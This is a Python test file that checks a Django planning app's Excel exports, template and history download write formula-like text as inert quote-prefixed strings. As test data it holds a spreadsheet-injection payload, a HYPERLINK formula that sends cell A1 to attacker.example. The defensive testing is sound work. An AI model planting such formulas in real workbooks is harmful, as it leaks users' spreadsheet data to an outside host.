"""Text that looks like a formula is written as text into every workbook we produce (register
export, History export, plan template, job errors) and reads back unchanged: a task titled
"=HYPERLINK(...)" is never evaluated by Excel, and our own import of our own export keeps its title."""

from __future__ import annotations

import zipfile
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from dxoffice.planning import services
from dxoffice.planning.excel.exporter import EXPORT_COLUMNS
from dxoffice.planning.excel.importer import import_plan
from dxoffice.planning.excel.template import template_bytes
from dxoffice.planning.models import Task
from dxoffice.planning.tests.factories import DirectiveFactory, ObjectiveFactory, TaskFactory
from dxoffice.planning.tests.test_excel_support import english  # noqa: F401

EVIL = '=HYPERLINK("http://attacker.example/?d="&A1,"Xem chi tiết")'
RISKY = [EVIL, "+84 912 345 678", "-1+2", "@SUM(A1:A2)", "=1+1"]


def no_formulas(content: bytes) -> None:
    """No sheet of the workbook holds a formula element."""
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def text_cells(sheet, value):
    """The cells of `sheet` holding exactly `value`; each must be a quote-prefixed string."""
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value == value]
    for cell in found:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    return found


@pytest.fixture
def risky_tasks(world):
    return [
        TaskFactory(
            plan=world.plan, pillar=world.pillar, lead_unit=world.department, code=f"NV-{n}", title=title
        )
        for n, title in enumerate(RISKY, start=1)
    ]


def test_register_export_writes_formula_like_titles_as_text(client, world, risky_tasks):
    client.force_login(world.coordinator)
    content = client.get(reverse("planning:task_export")).content
    no_formulas(content)
    sheet = load_workbook(BytesIO(content))["Tasks"]
    title_column = [column.key for column in EXPORT_COLUMNS].index("title") + 1
    titles = [sheet.cell(row=row, column=title_column).value for row in range(5, 5 + len(RISKY))]
    assert sorted(titles) == sorted(RISKY)
    for title in RISKY:
        assert len(text_cells(sheet, title)) == 1


def test_an_export_imports_back_with_the_same_titles(client, world, risky_tasks):
    client.force_login(world.coordinator)
    content = client.get(reverse("planning:task_export")).content
    result = import_plan(BytesIO(content), by=world.coordinator, plan=world.plan)
    assert result.ok, result.problems
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(RISKY))
    assert sorted(Task.objects.values_list("title", flat=True)) == sorted(RISKY)


def test_history_export_writes_formula_like_values_as_text(client, world):
    task = TaskFactory(plan=world.plan, pillar=world.pillar, lead_unit=world.department, title="Kho dữ liệu")
    services.task_update(by=world.coordinator, task=task, title=EVIL)
    client.force_login(world.coordinator)
    url = reverse("core:history", args=["planning.task", task.pk])
    content = client.get(url, {"format": "xlsx"}).content
    no_formulas(content)
    [cell] = text_cells(load_workbook(BytesIO(content)).active, EVIL)
    assert cell.column_letter == "G"  # "After"


def test_template_writes_formula_like_reference_texts_as_text(world):
    DirectiveFactory(number="01/CT-UBND", title=EVIL)
    ObjectiveFactory(program=world.program, code="MT-01", title="-Giảm 50% hồ sơ giấy")
    content = template_bytes(world.plan)
    no_formulas(content)
    workbook = load_workbook(BytesIO(content))
    assert len(text_cells(workbook["Directives"], EVIL)) == 1
    assert len(text_cells(workbook["Objectives"], "-Giảm 50% hồ sơ giấy")) == 1
    # Plain text stays a plain cell, and the template's own drop-downs still work.
    assert workbook["Directives"]["A2"].value == "01/CT-UBND" and not workbook["Directives"]["A2"].quotePrefix
    assert workbook["Tasks"].data_validations.dataValidation
